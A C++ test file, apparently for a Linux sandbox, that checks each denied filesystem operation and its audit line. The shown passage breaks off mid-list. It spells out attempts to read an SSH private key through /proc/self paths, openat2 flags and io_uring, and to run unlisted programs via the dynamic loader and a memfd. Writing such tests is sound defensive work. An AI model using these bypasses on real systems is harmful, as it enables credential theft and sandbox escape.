// Filesystem enforcement, operation by operation: every way of
// opening, creating, removing, renaming, linking and changing a file, exec,
// indirect and oddly spelled paths, carve-outs that don't exist yet, mounts,
// the walk's limits, and a realistic session.
//
// Most tests run one `vmhelper --op-comm` with many operations: once confined
// (denied attempts outside the write set plus permitted ones inside it), and
// once unconfined as the same user, where every operation must succeed. The
// helper renames itself "opI" before operation I, so each audit line is tied
// to the operation that caused it.
#include <dirent.h>
#include <fcntl.h>
#include <fmt/format.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <algorithm>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <optional>
#include <set>
#include <sstream>

#include "harness.h"

namespace vmtest {
namespace {

namespace fs = std::filesystem;

constexpr auto npos = std::string::npos;
constexpr const char* kEperm = "Operation not permitted";
// A directory of the test user's own under its real home: {user_home} is
// denied, so nothing here may be written (DAC would allow all of it).
constexpr const char* kDenied = "/home/confinetest/fsops";
constexpr const char* kSshDir = "/home/confinetest/.ssh";

// ---- `vmhelper --op-comm` ---------------------------------------------------

// One operation and what confine must make of it.
struct Op {
    std::string spec;         // a `vmhelper` operation, e.g. "open,/p,w+trunc"
    std::string op = {};      // the audit op of its refusal; empty: permitted
    std::string target = {};  // the audited path (with `reason`: the full path, audited as
                              // "..." and the end the walk got to)
    std::string reason = {};  // the "reason" of a fail-closed refusal
    bool xattr = false;       // may fail without confine (no user.* xattrs on 6.1's tmpfs),
                              // but never with EPERM
    bool uring = false;       // io_uring: refused in the submitting task or a worker thread
                              // (comm "iou-wrk-N"), so any comm
    bool cached = false;      // RESOLVE_CACHED: the kernel itself may refuse (EAGAIN)
    bool prefix = false;      // the audited path starts with `target` (an O_TMPFILE's "#ino")
};

Op allowed(std::string spec) {
    return {.spec = std::move(spec)};
}
Op denied(std::string spec, std::string op, std::string target) {
    return {.spec = std::move(spec), .op = std::move(op), .target = std::move(target)};
}
Op via_uring(Op o) {
    o.uring = true;
    return o;
}
Op resolve_cached(Op o) {
    o.cached = true;
    return o;
}

std::string sq(const std::string& s) {
    return "'" + s + "'";
}

// The result the helper gives operation `o` when its one call fails with
// errno `name` (a file op that is one call names itself as the call).
std::string failed(const Op& o, std::string_view name) {
    return o.spec.substr(0, o.spec.find(',')) + ":" + std::string(name);
}

// has_denial() on one line alone (several operations may refuse the same
// target with the same op; the comm tells them apart).
::testing::AssertionResult well_formed(const Result& r, const AuditLine& l, std::string_view comm = {}) {
    Result one = r;
    one.audit = {l};
    return has_denial(one, l.str("op").value_or(""), l.str("target").value_or(""), comm);
}

struct FileState {
    off_t size;
    mode_t mode;
    timespec mtime, ctime;
    bool operator==(const FileState& o) const {
        return size == o.size && mode == o.mode && mtime.tv_sec == o.mtime.tv_sec && mtime.tv_nsec == o.mtime.tv_nsec &&
               ctime.tv_sec == o.ctime.tv_sec && ctime.tv_nsec == o.ctime.tv_nsec;
    }
};
std::optional<FileState> state(const std::string& path) {
    struct stat st {};
    if (lstat(path.c_str(), &st) != 0) return std::nullopt;
    return FileState{st.st_size, st.st_mode, st.st_mtim, st.st_ctim};
}

// Undoes root's mounts even when an assertion ends the test early (SetUp's
// remove_all must never walk into a bind mount of ~/.ssh).
struct Mounts {
    std::vector<std::string> points;
    ::testing::AssertionResult add(const char* src, const std::string& dst, const char* type, unsigned long flags,
                                   const char* data = nullptr) {
        if (mount(src, dst.c_str(), type, flags, data) != 0)
            return ::testing::AssertionFailure() << "mount " << dst << ": " << strerror(errno);
        points.push_back(dst);
        return ::testing::AssertionSuccess();
    }
    ~Mounts() {
        for (auto it = points.rbegin(); it != points.rend(); ++it) umount2(it->c_str(), MNT_DETACH);
    }
};

class FsOpsTest : public VmTest {
protected:
    void SetUp() override {
        VmTest::SetUp();
        if (HasFatalFailure()) return;
        std::error_code ec;
        fs::remove_all(kDenied, ec);
        make_dir(kDenied, 0755);
        ro_ = at("ro");
        make_dir(ro_);
    }
    void TearDown() override {
        std::error_code ec;
        fs::remove_all(kDenied, ec);
    }

    const std::string& helper() {
        if (helper_.empty()) helper_ = install_helper(work());
        return helper_;
    }

    // `vmhelper --op-comm OPS...`: confined under `policy`, or unconfined.
    struct OpsRun {
        Result r;
        Ops got;
    };
    OpsRun run_ops(const std::string& policy, const std::vector<Op>& ops) {
        std::vector<std::string> argv = {helper(), "--op-comm"};
        for (const auto& o : ops) argv.push_back(o.spec);
        Result r = run({.policy = policy, .argv = argv});
        return {r, parse_ops(r.out)};
    }
    OpsRun run_ops_unconfined(const std::vector<Op>& ops) {
        std::string cmd = sq(helper()) + " --op-comm";
        for (const auto& o : ops) cmd += " " + sq(o.spec);
        Result r = run_unconfined(cmd);
        return {r, parse_ops(r.out)};
    }
    // The helper ran every operation: one result each, and as many failed
    // as its exit status counts.
    static ::testing::AssertionResult ran_all(const OpsRun& run, size_t n) {
        if (run.got.by_index.size() == n && run.r.status == static_cast<int>(std::min<size_t>(run.got.failed(), 100)))
            return ::testing::AssertionSuccess();
        return ::testing::AssertionFailure()
               << run.got.by_index.size() << " results of " << n << ", " << run.got.failed() << " failed\n"
               << run.r.describe();
    }

    // The confined run: refused operations failed with EPERM and left one
    // audit line each, permitted ones worked, and nothing else was audited.
    void expect_confined(const OpsRun& run, const std::vector<Op>& ops) {
        const Result& r = run.r;
        ASSERT_TRUE(ran_all(run, ops.size()));
        std::vector<bool> used(r.audit.size());
        auto claim = [&](size_t i, const Op& o, bool uring_pass) {
            if (o.uring != uring_pass) return;
            const std::string comm = fmt::format("op{}", i);
            for (size_t k = 0; k < r.audit.size(); k++) {
                const AuditLine& l = r.audit[k];
                if (used[k] || l.str("op") != o.op) continue;
                if (!o.uring && l.str("comm") != comm) continue;
                std::string t = l.str("target").value_or("");
                // A path the walk gave up on is audited as its end
                // after "...".
                bool match = o.prefix ? t.starts_with(o.target)
                             : o.reason.empty()
                                 ? t == o.target
                                 : t == o.target || (t.starts_with(".../") && o.target.ends_with(t.substr(3)));
                if (!match) continue;
                used[k] = true;
                EXPECT_TRUE(well_formed(r, l, o.uring ? "" : comm)) << r.describe();
                EXPECT_EQ(l.str("reason").value_or(""), o.reason) << l.raw;
                return;
            }
            ADD_FAILURE() << "no audit line for refused operation " << i << " '" << o.spec << "' (op " << o.op
                          << ", target " << o.target << ")\n"
                          << r.describe();
        };
        for (size_t i = 0; i < ops.size(); i++) {
            const Op& o = ops[i];
            SCOPED_TRACE(fmt::format("confined op {}: {}", i, o.spec));
            const std::string got = run.got.at(i);
            if (o.cached && got == failed(o, "EAGAIN")) continue;  // the kernel refused to resolve it: not ours
            if (!o.op.empty()) {
                EXPECT_EQ(got, failed(o, "EPERM")) << r.describe();
            } else if (o.xattr) {
                EXPECT_TRUE(got == "ok" || got == failed(o, "EOPNOTSUPP")) << got << "\n" << r.describe();
            } else {
                EXPECT_TRUE(got.starts_with("ok")) << got << "\n" << r.describe();
            }
        }
        for (bool uring_pass : {false, true})
            for (size_t i = 0; i < ops.size(); i++)
                if (!ops[i].op.empty() && !(ops[i].cached && run.got.at(i) == failed(ops[i], "EAGAIN")))
                    claim(i, ops[i], uring_pass);
        for (size_t k = 0; k < r.audit.size(); k++) EXPECT_TRUE(used[k]) << "unexpected audit line " << r.audit[k].raw;
    }

    // The control: every operation works without confine.
    void expect_control(const OpsRun& run, const std::vector<Op>& ops) {
        const Result& r = run.r;
        ASSERT_TRUE(ran_all(run, ops.size()));
        for (size_t i = 0; i < ops.size(); i++) {
            const Op& o = ops[i];
            SCOPED_TRACE(fmt::format("unconfined op {}: {}", i, o.spec));
            const std::string got = run.got.at(i);
            if (o.xattr) {
                EXPECT_TRUE(got == "ok" || got == failed(o, "EOPNOTSUPP")) << got << "\n" << r.describe();
            } else if (!(o.cached && got == failed(o, "EAGAIN"))) {
                EXPECT_TRUE(got.starts_with("ok")) << got << "\n" << r.describe();
            }
        }
    }

    // Confined then unconfined, with `reset` before each.
    void check_ops(const std::string& policy, const std::vector<Op>& ops, const std::function<void()>& reset,
                   const std::function<void()>& after_confined = {}) {
        reset();
        OpsRun c = run_ops(policy, ops);
        expect_confined(c, ops);
        if (after_confined) after_confined();
        reset();
        expect_control(run_ops_unconfined(ops), ops);
    }

    std::string ro_;  // the test user's own, under a read rule (policies that add it)

private:
    std::string helper_;
};

// ---- opening -----------------------------------------------------------------

TEST_F(FsOpsTest, OpeningForWriteOutsideTheWriteSetIsDenied) {
    const std::string policy = make_policy({.read = {ro_}});
    const std::vector<std::string> names = {"w", "trunc", "rdtrunc", "append", "rw"};
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_, work()}) {
            for (const auto& n : names) write_file(d + "/" + n, "original\n");
            unlink((d + "/new").c_str());
            unlink((d + "/via-link").c_str());
        }
        // Dangling symlinks in the workdir, as a checkout could commit them.
        for (const std::string& d : {std::string(kDenied), ro_}) {
            std::string link = work() + "/dangling-" + (d == kDenied ? "home" : "ro");
            unlink(link.c_str());
            symlink((d + "/via-link").c_str(), link.c_str());
            lchown(link.c_str(), test_user().uid, test_user().gid);
        }
    };
    std::vector<Op> ops;
    for (const std::string& d : {std::string(kDenied), ro_}) {
        ops.push_back(denied(fmt::format("open,{}/w,w", d), "open_write", d + "/w"));
        ops.push_back(denied(fmt::format("open,{}/trunc,w+trunc", d), "open_write", d + "/trunc"));
        // O_TRUNC truncates even with O_RDONLY.
        ops.push_back(denied(fmt::format("open,{}/rdtrunc,r+trunc", d), "open_write", d + "/rdtrunc"));
        ops.push_back(denied(fmt::format("open,{}/append,w+append", d), "open_write", d + "/append"));
        ops.push_back(denied(fmt::format("open,{}/rw,rw", d), "open_write", d + "/rw"));
        ops.push_back(denied(fmt::format("open,{}/new,w+creat+excl", d), "create", d + "/new"));
        // O_CREAT through a dangling symlink creates its target: decided there.
        ops.push_back(denied(fmt::format("open,{}/dangling-{},w+creat", work(), d == kDenied ? "home" : "ro"), "create",
                             d + "/via-link"));
    }
    // An O_TMPFILE has no name, but it is opened for write in a directory
    // (here a tmpfs without a rule): refused, audited as "<dir>/#<inode>".
    ops.push_back({.spec = "tmpfile,/dev/shm", .op = "open_write", .target = "/dev/shm/#", .prefix = true});
    ops.push_back(allowed(fmt::format("read,{}/w", ro_)));
    for (const char* spec : {"w,w", "trunc,w+trunc", "rdtrunc,r+trunc", "append,w+append", "rw,rw", "new,w+creat+excl"})
        ops.push_back(allowed(fmt::format("open,{}/{}", work(), spec)));

    check_ops(policy, ops, reset, [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) {
            for (const auto& n : names) EXPECT_EQ(read_file(d + "/" + n), "original\n") << d << "/" << n;
            EXPECT_FALSE(exists(d + "/new"));
            EXPECT_FALSE(exists(d + "/via-link"));
        }
        EXPECT_EQ(read_file(work() + "/trunc"), "");
        EXPECT_EQ(read_file(work() + "/rdtrunc"), "");
        EXPECT_TRUE(exists(work() + "/new"));
    });
}

// ---- creating ------------------------------------------------------------------

TEST_F(FsOpsTest, FifosNodesAndSocketsOutsideTheWriteSetAreDenied) {
    const std::string policy = make_policy({.read = {ro_}});
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_, work()})
            for (const char* n : {"/fifo", "/node", "/sock"}) unlink((d + n).c_str());
    };
    std::vector<Op> ops;
    for (const std::string& d : {std::string(kDenied), ro_, work()}) {
        bool ok = d == work();
        for (const char* what : {"mkfifo", "mknod", "bind,unix"}) {
            std::string path = d + (what == std::string("mkfifo")  ? "/fifo"
                                    : what == std::string("mknod") ? "/node"
                                                                   : "/sock");
            ops.push_back(ok ? allowed(fmt::format("{},{}", what, path))
                             : denied(fmt::format("{},{}", what, path), "create", path));
        }
    }
    check_ops(policy, ops, reset, [&] {
        for (const std::string& d : {std::string(kDenied), ro_})
            for (const char* n : {"/fifo", "/node", "/sock"}) EXPECT_FALSE(exists(d + n)) << d + n;
        for (const char* n : {"/fifo", "/node", "/sock"}) EXPECT_TRUE(exists(work() + n)) << n;
    });
}

// ---- mkdir, rmdir, unlink ------------------------------------------------------

TEST_F(FsOpsTest, MkdirRmdirAndUnlinkOutsideTheWriteSetAreDenied) {
    const std::string policy = make_policy({.read = {ro_}});
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_, work()}) {
            rmdir((d + "/newdir").c_str());
            make_dir(d + "/dir");
            write_file(d + "/file", "x\n");
        }
    };
    std::vector<Op> ops;
    for (const std::string& d : {std::string(kDenied), ro_}) {
        ops.push_back(denied(fmt::format("mkdir,{}/newdir", d), "mkdir", d + "/newdir"));
        ops.push_back(denied(fmt::format("rmdir,{}/dir", d), "rmdir", d + "/dir"));
        ops.push_back(denied(fmt::format("unlink,{}/file", d), "unlink", d + "/file"));
    }
    for (const char* spec : {"mkdir,{}/newdir", "rmdir,{}/dir", "unlink,{}/file"})
        ops.push_back(allowed(fmt::format(fmt::runtime(spec), work())));
    check_ops(policy, ops, reset, [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) {
            EXPECT_FALSE(exists(d + "/newdir"));
            EXPECT_TRUE(exists(d + "/dir"));
            EXPECT_TRUE(exists(d + "/file"));
        }
        EXPECT_FALSE(exists(work() + "/file"));
    });
}

// ---- rename ----------------------------------------------------------------------

TEST_F(FsOpsTest, RenamesIntoOrOutOfTheWriteSetAreDenied) {
    const std::string policy = make_policy({.read = {ro_}});
    const std::string w = work();
    // Workdir files are named after the denied dir they meet: "b" or "ro-b".
    const std::vector<std::string> tags = {"", "ro-"};
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) {
            for (const char* n : {"a", "c", "e", "f", "g", "b-out", "d-out", "g2"}) unlink((d + "/" + n).c_str());
            for (const char* n : {"a", "c", "e", "f", "g"}) write_file(d + "/" + n, "outside\n");
        }
        for (const auto& tag : tags) {
            for (const char* n : {"a-in", "c-in", "b", "d", "e", "f"}) unlink((w + "/" + tag + n).c_str());
            for (const char* n : {"b", "d", "e", "f"}) write_file(w + "/" + tag + n, "inside\n");
        }
        for (const char* n : {"p1", "p2", "p3", "p4"}) unlink((w + "/" + n).c_str());
        for (const char* n : {"p1", "p4"}) write_file(w + "/" + n, "inside\n");
    };
    std::vector<Op> ops;
    for (const std::string& d : {std::string(kDenied), ro_}) {
        const std::string t = w + "/" + (d == kDenied ? tags[0] : tags[1]);
        // Out of a denied dir into the workdir: the old end is refused.
        ops.push_back(denied(fmt::format("rename,{}/a,{}a-in", d, t), "rename", d + "/a"));
        ops.push_back(denied(fmt::format("renameat2,{}/c,{}c-in,noreplace", d, t), "rename", d + "/c"));
        // Out of the workdir into a denied dir: the new end is refused.
        ops.push_back(denied(fmt::format("rename,{}b,{}/b-out", t, d), "rename", d + "/b-out"));
        ops.push_back(denied(fmt::format("renameat2,{}d,{}/d-out,noreplace", t, d), "rename", d + "/d-out"));
        // Swapping a workdir file with a denied one, either way round.
        ops.push_back(denied(fmt::format("renameat2,{}e,{}/e,exchange", t, d), "rename", d + "/e"));
        ops.push_back(denied(fmt::format("renameat2,{}/f,{}f,exchange", d, t), "rename", d + "/f"));
        // Within the denied dir.
        ops.push_back(denied(fmt::format("rename,{}/g,{}/g2", d, d), "rename", d + "/g"));
    }
    ops.push_back(allowed(fmt::format("rename,{0}/p1,{0}/p2", w)));
    ops.push_back(allowed(fmt::format("renameat2,{0}/p2,{0}/p3,noreplace", w)));
    ops.push_back(allowed(fmt::format("renameat2,{0}/p3,{0}/p4,exchange", w)));
    check_ops(policy, ops, reset, [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) {
            for (const char* n : {"a", "c", "e", "f", "g"}) EXPECT_EQ(read_file(d + "/" + n), "outside\n") << d << n;
            for (const char* n : {"b-out", "d-out", "g2"}) EXPECT_FALSE(exists(d + "/" + n)) << d << n;
        }
        for (const auto& tag : tags)
            for (const char* n : {"b", "d", "e", "f"}) EXPECT_EQ(read_file(w + "/" + tag + n), "inside\n") << tag << n;
        EXPECT_TRUE(exists(w + "/p3"));
        EXPECT_TRUE(exists(w + "/p4"));
    });
}

// ---- symlink, link -----------------------------------------------------------------

TEST_F(FsOpsTest, SymlinksAndHardLinksOutsideTheWriteSetAreDenied) {
    const std::string w = work();
    const std::string policy =
        make_policy({.read = {ro_}, .deny_write = {"{workdir}/.git/hooks", "{workdir}/.git/config"}});
    make_dir(w + "/.git");
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) {
            unlink((d + "/sym").c_str());
            unlink((d + "/own-link").c_str());
        }
        for (const char* n : {"key-link", "config-link", "ro-link", "own2", "ssh-sym"}) unlink((w + "/" + n).c_str());
        write_file(w + "/.git/config", "[core]\n");
        write_file(ro_ + "/file", "read-only\n");
        write_file(w + "/own", "own\n");
    };
    std::vector<Op> ops = {
        denied(fmt::format("symlink,target,{}/sym", kDenied), "symlink", std::string(kDenied) + "/sym"),
        denied(fmt::format("symlink,target,{}/sym", ro_), "symlink", ro_ + "/sym"),
        // A second name in the workdir for a file the job can't write: the
        // source is audited.
        denied(fmt::format("link,{},{}/key-link", kSshKey, w), "link", kSshKey),
        denied(fmt::format("link,{0}/.git/config,{0}/config-link", w), "link", w + "/.git/config"),
        denied(fmt::format("link,{}/file,{}/ro-link", ro_, w), "link", ro_ + "/file"),
        // The job's own file, linked out of the write set: the new name is refused.
        denied(fmt::format("link,{}/own,{}/own-link", w, kDenied), "link", std::string(kDenied) + "/own-link"),
        allowed(fmt::format("link,{0}/own,{0}/own2", w)),
        allowed(fmt::format("read,{}/own2", w)),
        // Making a symlink to a denied file is harmless: reading through it is decided on the target.
        allowed(fmt::format("symlink,{},{}/ssh-sym", kSshKey, w)),
    };
    check_ops(policy, ops, reset, [&] {
        for (const std::string& d : {std::string(kDenied), ro_}) EXPECT_FALSE(exists(d + "/sym"));
        for (const char* n : {"key-link", "config-link", "ro-link"}) EXPECT_FALSE(exists(w + "/" + n)) << n;
        EXPECT_FALSE(exists(std::string(kDenied) + "/own-link"));
        struct stat st {};
        ASSERT_EQ(stat(kSshKey, &st), 0);
        EXPECT_EQ(st.st_nlink, 1u);
    });
    unlink((w + "/key-link").c_str());
}

// ---- attributes ------------------------------------------------------------------------

TEST_F(FsOpsTest, ChangingAttributesOutsideTheWriteSetIsDenied) {
    const std::string policy = make_policy({.read = {ro_}});
    const std::vector<std::string> names = {"t", "m", "o", "u1", "u2", "x1", "x2", "fm", "fo", "fu", "fx"};
    auto reset = [&] {
        for (const std::string& d : {std::string(kDenied), ro_, work()}) {
            for (const auto& n : names) write_file(d + "/" + n, "original\n");
            // For removexattr; 6.1's tmpfs (the guest's overlay upper) has no user.* xattrs.
            setxattr((d + "/x2").c_str(), "user.fsops", "v", 1, 0);
        }
    };
    std::vector<Op> ops;
    for (const std::string& d : {std::string(kDenied), ro_, work()}) {
        bool ok = d == work();
        auto add = [&](std::string spec, const char* op, const std::string& name, bool xattr = false) {
            Op o = ok ? allowed(spec) : denied(spec, op, d + "/" + name);
            o.xattr = xattr;
            ops.push_back(o);
        };
        // truncate(2) is refused by path_truncate, reported as setattr.
        add(fmt::format("truncate,{}/t,0", d), "setattr", "t");
        add(fmt::format("chmod,{}/m,600", d), "setattr", "m");
        // To the user's own uid and gid: DAC allows it, confine must not.
        add(fmt::format("chown,{}/o", d), "setattr", "o");
        add(fmt::format("utimes,{}/u1,set", d), "setattr", "u1");
        add(fmt::format("utimes,{}/u2,now", d), "setattr", "u2");
        add(fmt::format("setxattr,{}/x1,user.fsops,v", d), "setxattr", "x1", true);
        add(fmt::format("removexattr,{}/x2,user.fsops", d), "setxattr", "x2", true);
        // Through an fd the job may hold: opened for read (the denied home's
        // files can't even be opened).
        if (d == kDenied) continue;
        add(fmt::format("fd-chmod,{}/fm,600", d), "setattr", "fm");
        add(fmt::format("fd-chown,{}/fo", d), "setattr", "fo");
        add(fmt::format("fd-utimes,{}/fu", d), "setattr", "fu");
        add(fmt::format("fd-setxattr,{}/fx,user.fsops,v", d), "setxattr", "fx", true);
    }
    std::map<std::string, FileState> before;
    auto snapshot = [&] {
        for (const std::string& d : {std::string(kDenied), ro_})
            for (const auto& n : names) before[d + "/" + n] = state(d + "/" + n).value();
    };
    reset();
    snapshot();
    OpsRun c = run_ops(policy, ops);
    expect_confined(c, ops);
    // Any change, owner and xattrs included, would have moved the ctime.
    for (const auto& [path, st] : before) EXPECT_TRUE(state(path) == st) << path << " changed";
    reset();
    expect_control(run_ops_unconfined(ops), ops);
}

// ---- exec --------------------------------------------------------------------------------

// The programs of the contract's example exec list that this system has (/bin is a
// symlink to /usr/bin here; confine resolves rules when the policy loads).
std::vector<std::string> exec_list() {
    std::vector<std::string> out;
    for (const char* p : {"/usr/bin/true", "/bin/true", "/usr/bin/sh", "/bin/sh", "/usr/bin/dash", "/bin/dash"})
        if (exists(p)) out.push_back(p);
    return out;
}

// What every dynamically linked program maps executable: the loader and
// the shared libraries, all in one directory here.
std::string runtime_dir() {
    return fs::canonical("/lib64/ld-linux-x86-64.so.2").parent_path().string();
}

// An exec list names where code may come from, so it names the runtime too,
// as systemd's ExecPaths= does.
TEST_F(FsOpsTest, ExecListAllowsOnlyItsPrograms) {
    std::vector<std::string> list = exec_list();
    list.push_back(runtime_dir());
    const std::string policy = make_policy({.write = {"/dev/null"}, .exec = list});
    const std::string cmd = "/usr/bin/true && echo true-ran; /usr/bin/ls / >/dev/null && echo ls-ran; true";
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.out, "true-ran\nls-ran\n") << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "true-ran\n") << r.describe();
    EXPECT_NE(r.err.find(kEperm), npos) << r.describe();
    EXPECT_DENIAL(r, "exec", fs::canonical("/usr/bin/ls").string(), "sh");
    EXPECT_EQ(r.audit.size(), 1u) << r.describe();
}

// The kernel maps a program's loader, and the loader its libraries, with
// PROT_EXEC: each must be on the list, or the program doesn't start.
TEST_F(FsOpsTest, ExecListCoversTheLibrariesAProgramMaps) {
    const std::string loader = fs::canonical("/lib64/ld-linux-x86-64.so.2").string();
    std::vector<std::string> list = exec_list();
    list.push_back(loader);
    const std::string policy = make_policy({.write = {"/dev/null"}, .exec = list});
    const std::string cmd = "echo sh-ran";
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.out, "sh-ran\n") << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.status, 127) << r.describe();
    EXPECT_EQ(r.out, "") << r.describe();
    EXPECT_NE(r.err.find("libc.so.6"), npos) << r.describe();
    EXPECT_DENIAL(r, "exec", fs::canonical(runtime_dir() + "/libc.so.6").string(), "sh");
    EXPECT_EQ(r.audit.size(), 1u) << r.describe();
}

TEST_F(FsOpsTest, ExecListDeniesUnlistedInterpreters) {
    // The list plus the workdir, so that the scripts themselves may run, and
    // the runtime (see ExecListAllowsOnlyItsPrograms).
    std::vector<std::string> list = exec_list();
    list.push_back(runtime_dir());
    list.push_back("{workdir}");
    const std::string policy = make_policy({.write = {"/dev/null"}, .exec = list});
    write_file(work() + "/script.pl", "#!/usr/bin/perl\nprint \"perl-ran\\n\";\n", 0755);
    write_file(work() + "/script.sh", "#!/bin/sh\necho sh-script-ran\n", 0755);
    fs::copy_file("/usr/bin/true", work() + "/true-copy");
    chown((work() + "/true-copy").c_str(), test_user().uid, test_user().gid);
    const std::string cmd =
        "./script.pl; read -r line < script.pl && echo script-readable; ./script.sh; "
        "./true-copy && echo copy-ran; /usr/bin/ls / >/dev/null && echo ls-ran; true";

    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.out, "perl-ran\nscript-readable\nsh-script-ran\ncopy-ran\nls-ran\n") << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "script-readable\nsh-script-ran\ncopy-ran\n") << r.describe();
    // The script may run; its interpreter may not.
    EXPECT_DENIAL(r, "exec", fs::canonical("/usr/bin/perl").string(), "sh");
    EXPECT_DENIAL(r, "exec", fs::canonical("/usr/bin/ls").string(), "sh");
    EXPECT_EQ(r.audit.size(), 2u) << r.describe();
}

TEST_F(FsOpsTest, WithoutAnExecListExecFollowsRead) {
    const std::string norule = at("norule");
    std::filesystem::create_directories(norule);
    const std::string policy = make_policy({.read = {ro_}});
    std::vector<std::string> copies = {std::string(kDenied) + "/true", norule + "/true", ro_ + "/true",
                                       work() + "/true"};
    for (const auto& c : copies) {
        fs::copy_file("/usr/bin/true", c, fs::copy_options::overwrite_existing);
        chown(c.c_str(), test_user().uid, test_user().gid);
        chmod(c.c_str(), 0755);
    }
    const std::string cmd = fmt::format(
        "{} && echo denied-ran; {} && echo norule-ran; {} && echo ro-ran; "
        "./true && echo work-ran; true",
        copies[0], copies[1], copies[2]);
    Result control = run_unconfined(cmd);
    ASSERT_EQ(control.out, "denied-ran\nnorule-ran\nro-ran\nwork-ran\n") << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.status, 0) << r.describe();
    EXPECT_EQ(r.out, "ro-ran\nwork-ran\n") << r.describe();
    EXPECT_NE(r.err.find(kEperm), npos) << r.describe();
    EXPECT_DENIAL(r, "exec", copies[0], "sh");
    EXPECT_DENIAL(r, "exec", copies[1], "sh");
    EXPECT_EQ(r.audit.size(), 2u) << r.describe();
}

// The dynamic loader runs a program it is given as an argument by reading
// and mapping it itself, a memfd included; under an exec list, the mapping
// is refused unless the program is listed.
TEST_F(FsOpsTest, ExecListCannotBeBypassedThroughTheDynamicLoader) {
    const std::string loader = fs::canonical("/lib64/ld-linux-x86-64.so.2").string();
    // The contract's own example list.
    const std::string policy = make_policy({.write = {"/dev/null"}, .exec = {"/usr", "/bin"}});
    fs::copy_file("/usr/bin/true", work() + "/true-copy");
    chown((work() + "/true-copy").c_str(), test_user().uid, test_user().gid);
    // The helper where the list lets it run (the guest's /usr is writable by root).
    const std::string helper = "/usr/local/bin/confine-test-vmhelper";
    fs::copy_file(helper_bin(), helper, fs::copy_options::overwrite_existing);
    chmod(helper.c_str(), 0755);
    struct Unlink {
        std::string path;
        ~Unlink() { unlink(path.c_str()); }
    } unlink_helper{helper};
    const std::string cmd = fmt::format(
        "./true-copy && echo copy-ran; {0} ./true-copy && echo loader-ran; "
        "{1} --op-comm memfd-loader,{0},./true-copy mprotect-exec,./true-copy",
        loader, helper);

    Result control = run_unconfined(cmd);
    ASSERT_TRUE(control.out.starts_with("copy-ran\nloader-ran\npid ")) << control.describe();
    ASSERT_EQ(parse_ops(control.out).by_index, (std::vector<std::string>{"ok", "ok"})) << control.describe();

    Result r = run_confined(policy, cmd);
    EXPECT_EQ(r.status, 2) << "the helper's two operations should have been refused\n" << r.describe();
    // The exec, the loader's mapping of the file, and of the memfd.
    std::multiset<std::string> denials;
    for (const auto& l : r.audit)
        denials.insert(l.str("op").value_or("") + " " + l.str("target").value_or("") + " " +
                       l.str("comm").value_or(""));
    EXPECT_EQ(denials, (std::multiset<std::string>{"exec " + work() + "/true-copy sh",
                                                   "exec " + work() + "/true-copy ld-linux-x86-64",
                                                   "exec  ld-linux-x86-64", "exec " + work() + "/true-copy op1"}))
        << r.describe();
    EXPECT_EQ(r.out.find("copy-ran"), npos) << r.describe();
    EXPECT_EQ(r.out.find("loader-ran"), npos) << "a program outside the exec list ran through the loader\n"
                                              << r.describe();
    EXPECT_FALSE(parse_ops(r.out).at(0).starts_with("ok")) << "a memfd ran through the loader\n" << r.describe();
}

// ---- indirect and oddly spelled paths ------------------------------------------------------

// "../" as many times as `dir` has components: from dir up to /.
std::string up_to_root(const std::string& dir) {
    std::string up;
    for (char c : dir)
        if (c == '/') up += "../";
    return up;
}

TEST_F(FsOpsTest, IndirectPathsToACredentialAreDeniedAndAuditTheResolvedPath) {
    const std::string w = work(), key = kSshKey;
    write_file(w + "/mine", "mine\n");
    auto secret = [&](std::string spec) { return denied(std::move(spec), "open_read", key); };
    std::vector<Op> ops = {
        secret("read,/proc/self/root" + key),
        // cwd is the workdir, which the job can see; /proc/self/cwd leads back up.
        secret("read,/proc/self/cwd/" + up_to_root(w) + key.substr(1)),
        // A cwd in the denied home: chdir itself is no access to its content.
        allowed(fmt::format("chdir,{}", kUserHome)),
        secret("read,/proc/self/cwd/.ssh/id_ed25519"),
        allowed("chdir," + w),
        secret("opath-reopen," + key),
        // An O_PATH fd re-opened for write.
        denied(fmt::format("opath-reopen,{},w", kNotes), "open_write", kNotes),
        secret(fmt::format("opath-at,{},id_ed25519", kSshDir)),
        secret("openat2,-," + key + ",no_symlinks"),
        secret("openat2,-," + key + ",no_magiclinks"),
        secret(fmt::format("openat2,{},.ssh/id_ed25519,beneath", kUserHome)),
        secret(fmt::format("openat2,{},/.ssh/id_ed25519,in_root", kUserHome)),
        secret("openat2,-," + key + ",no_xdev"),
        // RESOLVE_CACHED fails with EAGAIN (confined or not) where the lookup
        // needs more than an RCU walk of the dcache: from / on the guest's
        // root (overlayfs over 9p, whose lower dentries need revalidating) it
        // always does, so there the kernel refuses before confine is asked
        // and the case is skipped. From a dirfd of ~/.ssh (the guest's own
        // upper layer) the cached lookup completes and confine decides.
        resolve_cached(secret("openat2,-," + key + ",cached")),
        secret(fmt::format("openat2,{},id_ed25519,cached", kSshDir)),
        // IORING_OP_OPENAT: submitted inline, forced to a worker, and through an SQPOLL thread.
        via_uring(secret("uring-open," + key + ",inline")),
        via_uring(secret("uring-open," + key + ",async")),
        via_uring(secret("uring-open," + key + ",sqpoll")),
        // Relative to a cwd in ~/.ssh: a lookup io_uring can finish inline,
        // in the submitting task, without punting to a worker.
        allowed(fmt::format("chdir,{}", kSshDir)),
        via_uring(secret("uring-open,id_ed25519,inline")),
        allowed("chdir," + w),
